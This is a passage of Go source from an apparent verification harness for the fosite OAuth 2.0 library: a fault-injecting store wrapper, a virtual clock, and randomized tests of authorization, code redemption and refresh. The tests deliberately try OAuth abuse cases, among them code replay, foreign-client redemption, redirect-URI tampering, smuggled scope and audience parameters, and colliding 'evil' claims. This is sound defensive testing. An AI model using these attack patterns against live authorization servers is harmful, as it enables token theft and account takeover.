