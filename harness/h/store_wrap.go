package h

import (
	"context"
	"net/url"
	"sync"
	"time"

	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"github.com/ory/fosite/handler/oauth2"
	"github.com/ory/fosite/handler/openid"
	"github.com/ory/fosite/handler/pkce"
	"github.com/ory/fosite/handler/rfc7523"
	"github.com/ory/fosite/handler/rfc8628"
	"github.com/ory/fosite/storage"
)

// FullStore is every storage interface the composed provider may ask for.
type FullStore interface {
	fosite.ClientManager
	oauth2.CoreStorage
	oauth2.TokenRevocationStorage
	oauth2.ResourceOwnerPasswordCredentialsGrantStorage
	openid.OpenIDConnectRequestStorage
	pkce.PKCERequestStorage
	rfc7523.RFC7523KeyStorage
	rfc8628.DeviceAuthStorage
	fosite.PARStorage
}

var _ FullStore = (*storage.MemoryStore)(nil)

// Call is one storage call as seen by the wrapper.
type Call struct {
	Seq    int
	Method string
	Key    string     // primary key argument (signature, request id, jti, request_uri, client id)
	Key2   string     // secondary key argument where there is one
	Form   url.Values // copy of the stored request's form (creates only)
	ReqID  string     // id of the request being stored (creates only)
	Err    error      // result (set before After runs)
	Write  bool       // the call mutates token/code state
	Faulty bool       // the wrapper injected the result
}

// Wrap forwards to Inner and lets hooks observe, fail, block or crash calls.
type Wrap struct {
	Inner  FullStore
	mu     sync.Mutex
	seq    int
	Before func(c *Call) error // non-nil error => inner call skipped, error returned
	After  func(c *Call)
}

// WrapTx is Wrap over a transactional inner store.
type WrapTx struct {
	*Wrap
	Tx storage.Transactional
}

var _ storage.Transactional = (*WrapTx)(nil)

func NewWrap(inner FullStore) *Wrap { return &Wrap{Inner: inner} }

// AsStore returns the value to hand to compose: a *WrapTx when the inner store
// is transactional (so that MaybeBeginTx finds the interface), else the *Wrap.
func (w *Wrap) AsStore() interface{} {
	if tx, ok := w.Inner.(storage.Transactional); ok {
		return &WrapTx{Wrap: w, Tx: tx}
	}
	return w
}

func (w *Wrap) ResetSeq() {
	w.mu.Lock()
	w.seq = 0
	w.mu.Unlock()
}

var writeMethods = map[string]bool{
	"CreateAuthorizeCodeSession": true, "InvalidateAuthorizeCodeSession": true,
	"CreateAccessTokenSession": true, "DeleteAccessTokenSession": true,
	"CreateRefreshTokenSession": true, "DeleteRefreshTokenSession": true, "RotateRefreshToken": true,
	"RevokeRefreshToken": true, "RevokeAccessToken": true,
	"CreateOpenIDConnectSession": true, "DeleteOpenIDConnectSession": true,
	"CreatePKCERequestSession": true, "DeletePKCERequestSession": true,
	"CreateDeviceAuthSession": true, "InvalidateDeviceCodeSession": true,
	"CreatePARSession": true, "DeletePARSession": true,
	"SetClientAssertionJWT": true, "MarkJWTUsedForTime": true,
}

func (w *Wrap) do(method, key, key2 string, req fosite.Requester, f func() error) error {
	w.mu.Lock()
	w.seq++
	c := &Call{Seq: w.seq, Method: method, Key: key, Key2: key2, Write: writeMethods[method]}
	before, after := w.Before, w.After
	w.mu.Unlock()
	if req != nil {
		c.ReqID = req.GetID()
		c.Form = url.Values{}
		for k, v := range req.GetRequestForm() {
			c.Form[k] = append([]string(nil), v...)
		}
	}
	if before != nil {
		if err := before(c); err != nil {
			c.Err = err
			c.Faulty = true
			if after != nil {
				after(c)
			}
			return err
		}
	}
	c.Err = f()
	if after != nil {
		after(c)
	}
	return c.Err
}

func (w *Wrap) GetClient(ctx context.Context, id string) (r fosite.Client, err error) {
	err = w.do("GetClient", id, "", nil, func() (e error) { r, e = w.Inner.GetClient(ctx, id); return })
	return
}
func (w *Wrap) ClientAssertionJWTValid(ctx context.Context, jti string) error {
	return w.do("ClientAssertionJWTValid", jti, "", nil, func() error { return w.Inner.ClientAssertionJWTValid(ctx, jti) })
}
func (w *Wrap) SetClientAssertionJWT(ctx context.Context, jti string, exp time.Time) error {
	return w.do("SetClientAssertionJWT", jti, "", nil, func() error { return w.Inner.SetClientAssertionJWT(ctx, jti, exp) })
}
func (w *Wrap) CreateAuthorizeCodeSession(ctx context.Context, code string, req fosite.Requester) error {
	return w.do("CreateAuthorizeCodeSession", code, "", req, func() error { return w.Inner.CreateAuthorizeCodeSession(ctx, code, req) })
}
func (w *Wrap) GetAuthorizeCodeSession(ctx context.Context, code string, s fosite.Session) (r fosite.Requester, err error) {
	err = w.do("GetAuthorizeCodeSession", code, "", nil, func() (e error) { r, e = w.Inner.GetAuthorizeCodeSession(ctx, code, s); return })
	return
}
func (w *Wrap) InvalidateAuthorizeCodeSession(ctx context.Context, code string) error {
	return w.do("InvalidateAuthorizeCodeSession", code, "", nil, func() error { return w.Inner.InvalidateAuthorizeCodeSession(ctx, code) })
}
func (w *Wrap) CreateAccessTokenSession(ctx context.Context, sig string, req fosite.Requester) error {
	return w.do("CreateAccessTokenSession", sig, "", req, func() error { return w.Inner.CreateAccessTokenSession(ctx, sig, req) })
}
func (w *Wrap) GetAccessTokenSession(ctx context.Context, sig string, s fosite.Session) (r fosite.Requester, err error) {
	err = w.do("GetAccessTokenSession", sig, "", nil, func() (e error) { r, e = w.Inner.GetAccessTokenSession(ctx, sig, s); return })
	return
}
func (w *Wrap) DeleteAccessTokenSession(ctx context.Context, sig string) error {
	return w.do("DeleteAccessTokenSession", sig, "", nil, func() error { return w.Inner.DeleteAccessTokenSession(ctx, sig) })
}
func (w *Wrap) CreateRefreshTokenSession(ctx context.Context, sig, asig string, req fosite.Requester) error {
	return w.do("CreateRefreshTokenSession", sig, asig, req, func() error { return w.Inner.CreateRefreshTokenSession(ctx, sig, asig, req) })
}
func (w *Wrap) GetRefreshTokenSession(ctx context.Context, sig string, s fosite.Session) (r fosite.Requester, err error) {
	err = w.do("GetRefreshTokenSession", sig, "", nil, func() (e error) { r, e = w.Inner.GetRefreshTokenSession(ctx, sig, s); return })
	return
}
func (w *Wrap) DeleteRefreshTokenSession(ctx context.Context, sig string) error {
	return w.do("DeleteRefreshTokenSession", sig, "", nil, func() error { return w.Inner.DeleteRefreshTokenSession(ctx, sig) })
}
func (w *Wrap) RotateRefreshToken(ctx context.Context, requestID, sig string) error {
	return w.do("RotateRefreshToken", requestID, sig, nil, func() error { return w.Inner.RotateRefreshToken(ctx, requestID, sig) })
}
func (w *Wrap) RevokeRefreshToken(ctx context.Context, requestID string) error {
	return w.do("RevokeRefreshToken", requestID, "", nil, func() error { return w.Inner.RevokeRefreshToken(ctx, requestID) })
}
func (w *Wrap) RevokeAccessToken(ctx context.Context, requestID string) error {
	return w.do("RevokeAccessToken", requestID, "", nil, func() error { return w.Inner.RevokeAccessToken(ctx, requestID) })
}
func (w *Wrap) Authenticate(ctx context.Context, name, secret string) (sub string, err error) {
	err = w.do("Authenticate", name, "", nil, func() (e error) { sub, e = w.Inner.Authenticate(ctx, name, secret); return })
	return
}
func (w *Wrap) CreateOpenIDConnectSession(ctx context.Context, code string, req fosite.Requester) error {
	return w.do("CreateOpenIDConnectSession", code, "", req, func() error { return w.Inner.CreateOpenIDConnectSession(ctx, code, req) })
}
func (w *Wrap) GetOpenIDConnectSession(ctx context.Context, code string, req fosite.Requester) (r fosite.Requester, err error) {
	err = w.do("GetOpenIDConnectSession", code, "", nil, func() (e error) { r, e = w.Inner.GetOpenIDConnectSession(ctx, code, req); return })
	return
}
func (w *Wrap) DeleteOpenIDConnectSession(ctx context.Context, code string) error {
	return w.do("DeleteOpenIDConnectSession", code, "", nil, func() error { return w.Inner.DeleteOpenIDConnectSession(ctx, code) })
}
func (w *Wrap) GetPKCERequestSession(ctx context.Context, sig string, s fosite.Session) (r fosite.Requester, err error) {
	err = w.do("GetPKCERequestSession", sig, "", nil, func() (e error) { r, e = w.Inner.GetPKCERequestSession(ctx, sig, s); return })
	return
}
func (w *Wrap) CreatePKCERequestSession(ctx context.Context, sig string, req fosite.Requester) error {
	return w.do("CreatePKCERequestSession", sig, "", req, func() error { return w.Inner.CreatePKCERequestSession(ctx, sig, req) })
}
func (w *Wrap) DeletePKCERequestSession(ctx context.Context, sig string) error {
	return w.do("DeletePKCERequestSession", sig, "", nil, func() error { return w.Inner.DeletePKCERequestSession(ctx, sig) })
}
func (w *Wrap) GetPublicKey(ctx context.Context, iss, sub, kid string) (k *jose.JSONWebKey, err error) {
	err = w.do("GetPublicKey", iss, sub, nil, func() (e error) { k, e = w.Inner.GetPublicKey(ctx, iss, sub, kid); return })
	return
}
func (w *Wrap) GetPublicKeys(ctx context.Context, iss, sub string) (k *jose.JSONWebKeySet, err error) {
	err = w.do("GetPublicKeys", iss, sub, nil, func() (e error) { k, e = w.Inner.GetPublicKeys(ctx, iss, sub); return })
	return
}
func (w *Wrap) GetPublicKeyScopes(ctx context.Context, iss, sub, kid string) (s []string, err error) {
	err = w.do("GetPublicKeyScopes", iss, sub, nil, func() (e error) { s, e = w.Inner.GetPublicKeyScopes(ctx, iss, sub, kid); return })
	return
}
func (w *Wrap) IsJWTUsed(ctx context.Context, jti string) (u bool, err error) {
	err = w.do("IsJWTUsed", jti, "", nil, func() (e error) { u, e = w.Inner.IsJWTUsed(ctx, jti); return })
	return
}
func (w *Wrap) MarkJWTUsedForTime(ctx context.Context, jti string, exp time.Time) error {
	return w.do("MarkJWTUsedForTime", jti, "", nil, func() error { return w.Inner.MarkJWTUsedForTime(ctx, jti, exp) })
}
func (w *Wrap) CreateDeviceAuthSession(ctx context.Context, dsig, usig string, req fosite.DeviceRequester) error {
	return w.do("CreateDeviceAuthSession", dsig, usig, req, func() error { return w.Inner.CreateDeviceAuthSession(ctx, dsig, usig, req) })
}
func (w *Wrap) GetDeviceCodeSession(ctx context.Context, sig string, s fosite.Session) (r fosite.DeviceRequester, err error) {
	err = w.do("GetDeviceCodeSession", sig, "", nil, func() (e error) { r, e = w.Inner.GetDeviceCodeSession(ctx, sig, s); return })
	return
}
func (w *Wrap) InvalidateDeviceCodeSession(ctx context.Context, sig string) error {
	return w.do("InvalidateDeviceCodeSession", sig, "", nil, func() error { return w.Inner.InvalidateDeviceCodeSession(ctx, sig) })
}
func (w *Wrap) CreatePARSession(ctx context.Context, uri string, req fosite.AuthorizeRequester) error {
	return w.do("CreatePARSession", uri, "", req, func() error { return w.Inner.CreatePARSession(ctx, uri, req) })
}
func (w *Wrap) GetPARSession(ctx context.Context, uri string) (r fosite.AuthorizeRequester, err error) {
	err = w.do("GetPARSession", uri, "", nil, func() (e error) { r, e = w.Inner.GetPARSession(ctx, uri); return })
	return
}
func (w *Wrap) DeletePARSession(ctx context.Context, uri string) error {
	return w.do("DeletePARSession", uri, "", nil, func() error { return w.Inner.DeletePARSession(ctx, uri) })
}

func (w *WrapTx) BeginTX(ctx context.Context) (c context.Context, err error) {
	c = ctx
	err = w.do("BeginTX", "", "", nil, func() (e error) {
		var nc context.Context
		nc, e = w.Tx.BeginTX(ctx)
		if e == nil {
			c = nc
		}
		return
	})
	return
}
func (w *WrapTx) Commit(ctx context.Context) error {
	return w.do("Commit", "", "", nil, func() error { return w.Tx.Commit(ctx) })
}
func (w *WrapTx) Rollback(ctx context.Context) error {
	return w.do("Rollback", "", "", nil, func() error { return w.Tx.Rollback(ctx) })
}
