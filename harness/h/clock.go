// Package h is the shared harness machinery: virtual clock, statistics /
// evidence collection, known-finding handling, the stores (recorder, fault
// injection, transactional reference store), the in-process server ("world")
// and the reference model.
package h

import (
	"sync"
	"time"

	"github.com/ory/fosite/token/jwt"
)

// Epoch is where the virtual clock starts in every case.
var Epoch = time.Date(2031, 3, 4, 5, 6, 7, 300_000_000, time.UTC)

var clk struct {
	mu  sync.Mutex
	now time.Time
}

func init() {
	clk.now = Epoch
	// fosite's JWT claim validation already reads this variable; the build
	// overlay (cmd/instr) makes every other wall-clock read go through it too.
	jwt.TimeFunc = Now
}

// Now is the virtual time.
func Now() time.Time {
	clk.mu.Lock()
	defer clk.mu.Unlock()
	return clk.now
}

// ClockReset puts the virtual clock back to Epoch (start of every case).
func ClockReset() {
	clk.mu.Lock()
	clk.now = Epoch
	clk.mu.Unlock()
}

// Advance moves the virtual clock forward.
func Advance(d time.Duration) {
	clk.mu.Lock()
	clk.now = clk.now.Add(d)
	clk.mu.Unlock()
}
