package props

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

const redirectURI = "https://rp.example/cb"

func (e *Eng) drawScopes(mustOpenID bool, label string) []string {
	var s []string
	if (mustOpenID || rapid.IntRange(0, 2).Draw(e.t, label+"-openid") == 0) && !e.w.NoOIDC() {
		s = append(s, "openid")
	}
	if rapid.IntRange(0, 3).Draw(e.t, label+"-offline") != 0 {
		s = append(s, "offline")
	}
	if rapid.Bool().Draw(e.t, label+"-a") {
		s = append(s, "a")
	}
	if rapid.Bool().Draw(e.t, label+"-b") {
		s = append(s, "b")
	}
	if rapid.IntRange(0, 4).Draw(e.t, label+"-offline_access") == 0 {
		// a second registered refresh scope, whose name merely starts with the letters of "offline"
		s = append(s, "offline_access")
	}
	return s
}

func (e *Eng) drawAud(label string) []string {
	switch rapid.IntRange(0, 5).Draw(e.t, label) {
	case 0:
		return []string{"https://api.example/v1"}
	case 1:
		return []string{"https://api.example/v1", "https://other.example"}
	}
	return nil
}

// sessFor is the integrator's session for a new grant. Now and then its custom claims are named like the fields the
// server fills in itself (in the introspection extras and in the claims of a JWT access token): they must never
// override them — a custom "exp" in particular neither shortens nor extends what the server honours.
func (e *Eng) sessFor(subject string) fosite.Session {
	sess := e.w.Sess(subject)
	if hs, ok := sess.(*h.Sess); ok && rapid.IntRange(0, 3).Draw(e.t, "collidingExtraClaims") == 0 {
		var exp interface{} = 1
		if rapid.Bool().Draw(e.t, "customExpInTheFuture") {
			exp = h.Epoch.Add(20 * 365 * 24 * time.Hour).Unix()
		}
		hs.Extra = map[string]interface{}{"active": false, "client_id": "evil-client", "sub": "evil-subject", "scope": "admin", "aud": []string{"https://evil.example"}, "exp": exp, "iat": 1, "username": "evil", "custom": "kept"}
		hs.JWTClaims.Extra = map[string]interface{}{"exp": exp, "iat": 1, "nbf": 1, "sub": "evil-subject", "iss": "https://evil.example", "aud": []string{"https://evil.example"}, "scp": []string{"admin"}, "scope": "admin", "client_id": "evil-client", "jti": "fixed-jti", "custom": "kept"}
		e.label("session-extra-claims-collide")
	}
	return sess
}

// ---------------------------------------------------------------- authorize

func (e *Eng) actAuthorize() {
	t := e.t
	client := pick(t, e.clients, "client")
	rtype := pick(t, e.cfg.Flows, "response_type")
	if e.w.NoOIDC() && (len(strings.Fields(rtype)) != 1 || rtype == "id_token") {
		// plain OAuth 2.0 sessions: the OpenID Connect response types are not on offer
		rtype = "code"
	}
	needID := strings.Contains(rtype, "id_token")
	scopes := e.drawScopes(needID, "scope")
	aud := e.drawAud("aud")
	withRedirect := fosite.Arguments(scopes).Has("openid") || rapid.IntRange(0, 3).Draw(t, "withRedirect") != 0
	granted := append([]string{}, scopes...)
	declined := ""
	if len(granted) > 1 && rapid.IntRange(0, 3).Draw(t, "partialConsent") == 0 {
		// the user declines one non-openid scope
		for i, s := range granted {
			if s != "openid" {
				declined = s
				granted = append(granted[:i:i], granted[i+1:]...)
				break
			}
		}
	}
	grantedAud := aud
	if len(aud) > 1 && rapid.Bool().Draw(t, "partialAudienceConsent") {
		// the user consents to the first audience only
		grantedAud = aud[:1:1]
	}
	var defaultAud []string
	if len(aud) == 0 && rapid.IntRange(0, 5).Draw(t, "defaultAudienceFromConsent") == 0 {
		// the consent step adds a default audience the client did not ask for (it is registered for it)
		defaultAud = []string{"https://api.example/v1"}
		grantedAud = defaultAud
	}
	q := url.Values{"client_id": {client}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}}
	if len(scopes) > 0 {
		q.Set("scope", strings.Join(scopes, " "))
	}
	if withRedirect {
		q.Set("redirect_uri", redirectURI)
	}
	if len(aud) > 0 {
		q.Set("audience", strings.Join(aud, " "))
	}
	subject := fmt.Sprintf("user-%d", len(e.grants)+1)
	sess := e.sessFor(subject)
	res := e.w.Authorize(q, h.Consent{Session: sess, Scopes: append([]string{}, granted...), Audience: append([]string{}, grantedAud...), ExtraAudience: defaultAud})
	e.step("authorize:" + rtype)
	if defaultAud != nil {
		e.label("default-audience-granted-by-consent")
	}
	if e.w.Cfg.IsPushedAuthorizeEnforced {
		e.label("plain-authorize-under-par-enforcement")
		if res.Code != "" || res.Access != "" || res.IDToken != "" {
			e.viol("C17/enforcement-ignored", "pushed authorization requests are enforced, but a plain authorization request (no request_uri) was accepted")
		}
	}
	if !res.Err.OK() || (res.Code == "" && res.Access == "") {
		e.logf("authorize client=%s type=%q scopes=%q -> %v (not asserted here)", client, rtype, scopes, res.Err)
		e.label("authorize-refused")
		return
	}
	flow := "hybrid"
	if rtype == "code" {
		flow = "code"
	} else if res.Code == "" {
		flow = "implicit"
	}
	g := e.newGrant(client, flow, granted, grantedAud, subject)
	g.Extra["declined"] = declined
	if declined != "" {
		e.label("partial-consent")
	}
	if len(grantedAud) < len(aud) {
		e.label("partial-audience-consent")
	}
	if withRedirect {
		g.Redirect = redirectURI
	}
	var parts []string
	if res.Code != "" {
		e.addCred(g, "code", res.Code, "authz", 0, e.codeLife)
		parts = append(parts, "code")
	}
	if res.Access != "" {
		life := e.atLife
		var secs int64
		if _, err := fmt.Sscan(res.Params.Get("expires_in"), &secs); err == nil && secs > 0 {
			life = time.Duration(secs) * time.Second
		}
		e.addCred(g, "access", res.Access, "authz", 0, life)
		parts = append(parts, "access")
	}
	e.label("flow=" + flow)
	e.logf("authorize client=%s type=%q granted=%q redirect=%v -> g%d %v", client, rtype, granted, withRedirect, g.N, parts)
	e.invariant("")
}

// ---------------------------------------------------------------- redeem

func otherClient(t *rapid.T, clients []string, not string, label string) string {
	var l []string
	for _, c := range clients {
		if c != not {
			l = append(l, c)
		}
	}
	return pick(t, l, label)
}

func (e *Eng) actRedeem() {
	t := e.t
	code := e.pickCred("code", "code")
	if code == nil {
		t.Skip("no code")
	}
	g := code.G
	presenter := g.Client
	var reasons []string
	who := rapid.IntRange(0, 9).Draw(t, "presenter")
	badAuth := false
	if who == 0 || who == 1 {
		presenter = otherClient(t, e.clients, g.Client, "foreign")
		reasons = append(reasons, "foreign")
	} else if who == 2 && presenter != "P" {
		badAuth = true
	}
	redirect := g.Redirect
	switch rapid.IntRange(0, 13).Draw(t, "redirect") {
	case 0:
		redirect = "https://rp.example/other"
	case 1:
		redirect = ""
	case 2:
		redirect = "https://rp.example/cb/"
	case 3:
		redirect = "https://RP.example/cb"
	case 4:
		redirect = "https://rp.example/%63b"
	case 5:
		redirect = "https://rp.example:443/cb"
	case 6:
		redirect = "https://rp.example/cb?x=1"
	}
	if g.Redirect != "" && redirect != g.Redirect {
		reasons = append(reasons, "redirect")
	}
	if code.Consumed {
		reasons = append(reasons, "used")
	}
	switch e.timeExpired(code) {
	case Inactive:
		reasons = append(reasons, "expired")
	case Unspec:
		reasons = append(reasons, "maybe-expired")
	}
	form := url.Values{"grant_type": {"authorization_code"}, "code": {code.Val}}
	if redirect != "" {
		form.Set("redirect_uri", redirect)
	}
	if rapid.IntRange(0, 3).Draw(t, "smuggle") == 0 {
		form.Set("scope", "openid offline a b c")
		form.Set("audience", "https://other.example")
		e.label("redeem-smuggle")
	}
	if v := g.Extra["verifier"]; v != "" {
		// the authorization was pushed with a PKCE challenge: the holder presents the matching verifier
		form.Set("code_verifier", v)
	}
	auth := e.auth(presenter)
	if badAuth {
		auth.BasicPass = "wrong-secret"
	}
	reqForm := e.form(presenter, form)
	if presenter == "P" && presenter != g.Client && rapid.Bool().Draw(t, "publicViaBasicNamingVictimInBody") {
		// a public client identifies itself through the Basic header (empty password) and names the code's
		// owner in the body: it is still the client of the header that is authenticated
		auth = h.Auth{RawHeader: "Basic " + base64.StdEncoding.EncodeToString([]byte("P:"))}
		reqForm.Set("client_id", g.Client)
		e.label("redeem-public-basic-with-victim-client_id")
	}
	// now and then the store cannot answer a look-up of the code (lost connection, a serialization conflict between
	// competing transactions): the request may fail, but whatever binds the code still binds it
	lookupFailed := false
	if e.cfg.Prop == "C02" && rapid.IntRange(0, 6).Draw(t, "codeLookupFails") == 0 {
		ferr := pick(t, []error{errors.New("connection reset by peer"), fosite.ErrSerializationFailure, fosite.ErrSerializationFailure}, "lookupError")
		nth, seen := rapid.IntRange(1, 2).Draw(t, "failingLookup"), 0
		e.w.W.Before = func(c *h.Call) error {
			if c.Method == "GetAuthorizeCodeSession" {
				if seen++; seen == nth {
					lookupFailed = true
					return ferr
				}
			}
			return nil
		}
	}
	e.w.ResetCalls()
	e.w.Record = true
	tr := e.w.Token(reqForm, auth, h.TokenOpts{})
	e.w.Record = false
	e.w.W.Before = nil
	if lookupFailed {
		e.label("redeem-with-failing-code-lookup")
		if len(reasons) > 0 {
			e.label("ineligible-redeem-with-failing-code-lookup")
		}
	}
	if !tr.OK() {
		for _, c := range e.w.Calls {
			if c.Method == "CreateAccessTokenSession" || c.Method == "CreateRefreshTokenSession" {
				e.viol("C02/refused-attempt-created-token-record", "refused redemption of %v (reasons %v) called %s", code, reasons, c.Method)
				e.viol("C10/refused-attempt-created-token-record", "refused redemption of %v (reasons %v) called %s", code, reasons, c.Method)
			}
		}
	}
	e.step("redeem:" + strings.Join(reasons, "+"))
	e.logf("redeem %v by=%s badAuth=%v redirect=%q reasons=%v -> %v", code, presenter, badAuth, redirect, reasons, tr.Err)
	issued := tr.Access != "" || tr.Refresh != "" || tr.IDToken != ""

	if badAuth {
		if issued || tr.Err.OK() {
			e.viol("C10/unauthenticated-redeem", "code redeemed with a wrong client secret")
		}
		if tr.Err.Name != "invalid_client" && tr.Err.Name != "invalid_request" {
			e.viol("C10/wrong-error-class", "failed client authentication answered %v", tr.Err)
		}
		e.invariant("C10/failed-auth-changed-state")
		return
	}

	has := func(r string) bool {
		for _, x := range reasons {
			if x == r {
				return true
			}
		}
		return false
	}
	if lookupFailed && !tr.OK() && !issued {
		// the request failed on the store's error: nothing was issued, and the code is as usable as before. (Whether a
		// replay was noticed before the failure is not determined.)
		e.logf("  (a look-up of the code failed in the store)")
		code.Fails++
		if has("used") {
			e.unspecFamily(g, "replay-with-failing-code-lookup")
		}
		e.invariant("C02/refused-attempt-changed-state")
		return
	}
	if has("maybe-expired") {
		// inside the ±2 s margin around the advertised expiry: only learn the outcome
		if tr.OK() {
			if code.Consumed {
				e.viol("C01/code-redeemed-twice", "%v yielded tokens a second time", code)
			}
			if !has("foreign") && !has("redirect") {
				code.Consumed = true
				e.registerTokens(g, tr, 0, "redeem")
			}
		} else if code.Consumed {
			e.unspecFamily(g, "replay-inside-expiry-margin")
		}
		e.invariant("")
		return
	}

	if len(reasons) == 0 {
		if !tr.OK() {
			if code.Fails > 0 {
				e.viol("C02/rightful-holder-refused-after-failed-attempts", "%v: %d refused attempts before, now the rightful client with the right redirect_uri before expiry is refused: %v", code, code.Fails, tr.Err)
			}
			e.viol("X/rightful-redemption-refused", "%v: rightful redemption refused: %v %s", code, tr.Err, tr.Err.Hint)
			if g.Extra["par"] == "1" {
				e.viol("C17/pushed-value-overridden", "%v came from a pushed authorization request (PKCE verifier pushed: %v); its rightful redemption with the pushed values is refused: %v %s", code, g.Extra["verifier"] != "", tr.Err, tr.Err.Hint)
			}
			e.label("redeem-unexpected-refusal")
			e.invariant("")
			return
		}
		code.Consumed = true
		code.Exp = Inactive
		if code.Fails > 0 {
			e.label("redeem-ok-after-failed-attempts")
		}
		e.label("redeem-ok")
		e.registerTokens(g, tr, 0, "redeem")
		e.invariant("")
		return
	}

	// some refusal reason holds
	if issued || tr.Err.OK() {
		switch {
		case has("used"):
			e.viol("C01/code-redeemed-twice", "%v was already redeemed and yielded tokens again (reasons %v)", code, reasons)
		case has("foreign"):
			e.viol("C02/foreign-client-redeemed", "%v issued to %s was redeemed by %s", code, g.Client, presenter)
		case has("redirect"):
			e.viol("C02/redirect-mismatch-redeemed", "%v bound to redirect_uri %q was redeemed with %q", code, g.Redirect, redirect)
		case has("expired"):
			e.viol("C07/expired-code-honoured", "%v expired at %v and was redeemed at %v", code, code.Expiry, h.Now())
			e.viol("C02/expired-code-redeemed", "%v expired at %v and was redeemed at %v", code, code.Expiry, h.Now())
		}
		// resynchronise: treat as a successful redemption
		if tr.OK() {
			code.Consumed = true
			e.registerTokens(g, tr, 0, "redeem")
		}
		e.invariant("")
		return
	}
	code.Fails++
	e.label("redeem-refused:" + strings.Join(reasons, "+"))
	if len(reasons) == 1 {
		switch reasons[0] {
		case "used":
			if tr.Err.Name != "invalid_grant" {
				e.viol("C01/replay-wrong-error-class", "replay of %v answered %v, want invalid_grant", code, tr.Err)
			}
		case "foreign", "redirect":
			if tr.Err.Name != "invalid_grant" {
				e.viol("C02/wrong-error-class", "%s attempt on %v answered %v, want invalid_grant", reasons[0], code, tr.Err)
			}
		}
	}
	if has("used") {
		// replay: every token obtained by redeeming the code, directly or through refreshes, dies
		if len(reasons) == 1 || (len(reasons) == 2 && (has("foreign") || has("redirect") || has("expired"))) {
			e.label("code-replay")
			if nRefreshes(g) >= 2 {
				e.label("code-replay-after->=2-refreshes")
			}
			e.killFamily(g, "C01/replay-did-not-kill-tokens")
		} else {
			e.unspecFamily(g, "overlapping-refusal-reasons")
		}
		e.invariant("C01/replay-affected-other-grant", g)
		return
	}
	// refused for another reason: nothing may change (code still usable by its holder)
	e.invariant("C02/refused-attempt-changed-state")
}

func nRefreshes(g *Grant) int {
	n := 0
	for _, c := range g.Creds {
		if c.Kind == "refresh" && c.Consumed {
			n++
		}
	}
	return n
}

// ---------------------------------------------------------------- refresh

func (e *Eng) actRefresh() {
	t := e.t
	r := e.pickCred("refresh", "refresh")
	if r == nil {
		t.Skip("no refresh token")
	}
	g := r.G
	presenter := g.Client
	var reasons []string
	if rapid.IntRange(0, 9).Draw(t, "presenter") == 0 {
		presenter = otherClient(t, e.clients, g.Client, "foreign")
		reasons = append(reasons, "foreign")
	}
	if r.Consumed {
		reasons = append(reasons, "used")
	} else if r.Revoked {
		reasons = append(reasons, "revoked")
	} else if r.Exp == Inactive {
		reasons = append(reasons, "dead")
	} else if r.Exp == Unspec {
		reasons = append(reasons, "unspecified")
	}
	switch e.timeExpired(r) {
	case Inactive:
		reasons = append(reasons, "expired")
	case Unspec:
		reasons = append(reasons, "unspecified")
	}
	// C05: the client must still be allowed every granted scope / audience and hold the refresh_token grant
	cl, _ := e.w.Mem.GetClient(context.Background(), presenter)
	if cl != nil && !cl.GetGrantTypes().Has("refresh_token") {
		reasons = append(reasons, "client-lost-grant-type")
	}
	if presenter == g.Client && cl != nil {
		for _, s := range g.Scopes {
			if !hasExact(cl.GetScopes(), s) { // engine uses plain scope names (no dots, no wildcards): all strategies agree
				reasons = append(reasons, "client-lost-scope")
				break
			}
		}
		for _, a := range g.Aud {
			if !hasExact(cl.GetAudience(), a) {
				reasons = append(reasons, "client-lost-audience")
				break
			}
		}
	}
	if e.rsMode != 0 && !e.refreshExpected("password", presenter, g.Scopes) {
		// the grant has none of the configured refresh scopes (possible for tokens minted under
		// a different rule; never in this engine) — unspecified
		reasons = append(reasons, "unspecified")
	}
	form := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {r.Val}}
	if rapid.IntRange(0, 2).Draw(t, "smuggle") == 0 {
		form.Set("scope", "openid offline a b c")
		form.Set("audience", "https://other.example")
		e.label("refresh-smuggle")
	}
	tr := e.w.Token(e.form(presenter, form), e.auth(presenter), h.TokenOpts{})
	e.step("refresh:" + strings.Join(reasons, "+"))
	e.logf("refresh %v by=%s reasons=%v -> %v", r, presenter, reasons, tr.Err)
	has := func(x string) bool {
		for _, y := range reasons {
			if y == x {
				return true
			}
		}
		return false
	}
	issued := tr.Access != "" || tr.Refresh != ""
	if tr.OK() {
		// whatever the reference expected of this request: once a refresh went through, a contract store has revoked
		// the access tokens of the request id, the hybrid flow's authorization-endpoint token among them
		for _, o := range g.Creds {
			if o.Kind == "access" && o.Origin == "authz" {
				e.setUnspec(o, "hybrid-sibling-of-refreshed-grant")
			}
		}
	}
	if has("unspecified") {
		if tr.OK() {
			if r.Consumed {
				e.viol("C04/refresh-token-used-twice", "%v exchanged successfully a second time", r)
			}
			r.Consumed = true
			e.setInactive(r, "C04/rotated-refresh-token-still-active")
			e.setInactive(r.Pair, "C04/rotated-access-token-still-active")
			e.registerTokens(g, tr, r.Gen+1, "refresh")
		} else {
			e.unspecFamily(g, "refresh-with-unspecified-token")
		}
		e.invariant("")
		return
	}
	if len(reasons) == 0 {
		if !tr.OK() {
			e.viol("X/rightful-refresh-refused", "%v: rightful refresh refused: %v %s", r, tr.Err, tr.Err.Hint)
			e.viol("X/rightful-refresh-refused2", "%v: live refresh token presented by its client was refused: %v %s", r, tr.Err, tr.Err.Hint)
			e.unspecFamily(g, "unexpected-refusal")
			e.invariant("")
			return
		}
		if tr.Refresh == "" {
			e.viol("C04/no-new-refresh-token", "refresh of %v returned no new refresh token", r)
		}
		if tr.Refresh == r.Val {
			e.viol("C04/refresh-token-not-rotated", "refresh of %v returned the same refresh token", r)
		}
		r.Consumed = true
		e.setInactive(r, "C04/rotated-refresh-token-still-active")
		e.setInactive(r.Pair, "C04/rotated-access-token-still-active")
		for _, o := range g.Creds {
			if o.Kind == "access" && o.Origin == "authz" {
				e.setUnspec(o, "hybrid-sibling-of-refreshed-grant")
			}
		}
		e.registerTokens(g, tr, r.Gen+1, "refresh")
		e.label("refresh-ok")
		if r.Gen+1 >= 2 {
			e.label("chain-depth>=2")
		}
		if r.Gen+1 >= 4 {
			e.label("chain-depth>=4")
		}
		e.invariant("C04/refresh-affected-other-grant", g)
		return
	}
	if issued || tr.Err.OK() {
		switch {
		case has("used"):
			e.viol("C04/refresh-token-used-twice", "%v was already exchanged and was honoured again", r)
		case has("foreign"):
